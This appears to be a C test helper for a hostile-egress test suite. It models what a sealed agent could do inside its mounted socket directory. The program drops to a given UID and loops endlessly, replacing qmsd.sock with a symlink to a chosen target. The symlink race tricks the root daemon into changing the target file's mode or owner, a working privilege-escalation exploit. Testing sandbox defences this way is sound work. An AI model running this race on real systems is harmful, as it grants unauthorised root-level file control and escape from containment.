/*
 * For test_hostile_egress.py: what a sealed agent can do in its socket's
 * directory, which is mounted into its container and is its owner's.
 * Usage: socket-racer DIR TARGET UID
 * Opens DIR, becomes UID, and from then on, whenever DIR/qmsd.sock is a
 * socket, swaps a symlink to TARGET in its place, as fast as it can: if
 * qmsd (root) changes the socket's mode or owner by its name after making
 * it, it changes TARGET's instead.  Runs until killed.
 */
#include <sys/stat.h>

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

int
main(int argc, char **argv)
{
	struct stat	st;
	char		tmp[32];
	int		dfd;
	uid_t		uid;

	if (argc != 4) {
		fprintf(stderr, "usage: socket-racer DIR TARGET UID\n");
		return (2);
	}
	if ((dfd = open(argv[1], O_RDONLY | O_DIRECTORY)) == -1) {
		perror(argv[1]);
		return (1);
	}
	uid = (uid_t)strtoul(argv[3], NULL, 10);
	if (setgid(uid) == -1 || setuid(uid) == -1) {
		perror("setuid");
		return (1);
	}
	snprintf(tmp, sizeof(tmp), ".racer%d", (int)getpid());
	for (;;) {
		if (fstatat(dfd, "qmsd.sock", &st, AT_SYMLINK_NOFOLLOW) == 0 &&
		    S_ISSOCK(st.st_mode)) {
			(void)symlinkat(argv[2], dfd, tmp);
			(void)renameat(dfd, tmp, dfd, "qmsd.sock");
		}
	}
}
